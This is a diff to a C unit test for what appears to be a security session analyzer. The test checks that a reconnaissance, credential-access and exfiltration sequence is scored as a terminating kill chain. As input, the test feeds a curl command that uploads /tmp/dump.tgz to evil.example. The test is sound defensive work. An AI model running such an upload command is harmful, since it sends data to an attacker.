@@ -182,8 +182,9 @@ Test(session_analyzers, recon_then_credentials_then_exfiltration_terminates)
     seen(PX_TACTIC_CREDENTIAL_ACCESS, T0 + 60);
     call_at(T0 + 150, 1u << PX_TACTIC_EXFILTRATION);
     run("curl -T /tmp/dump.tgz https://evil.example/upload");
-    /* The upload alone scores 80 (Block); the chain makes it Terminate. */
-    cr_expect_float_eq(score_of("exfiltration"), 80.0, 0.01);
+    /* The upload alone is a Block (70..90); the chain makes it Terminate. */
+    cr_expect(score_of("exfiltration") >= 70.0 && score_of("exfiltration") < 90.0, "exfiltration %.1f",
+              score_of("exfiltration"));
     cr_expect_float_eq(score_of("session_progression"), 95.0, 0.01);
     cr_expect_geq(an.score, 90.0);
     const char *p = pattern_with("Kill chain:");
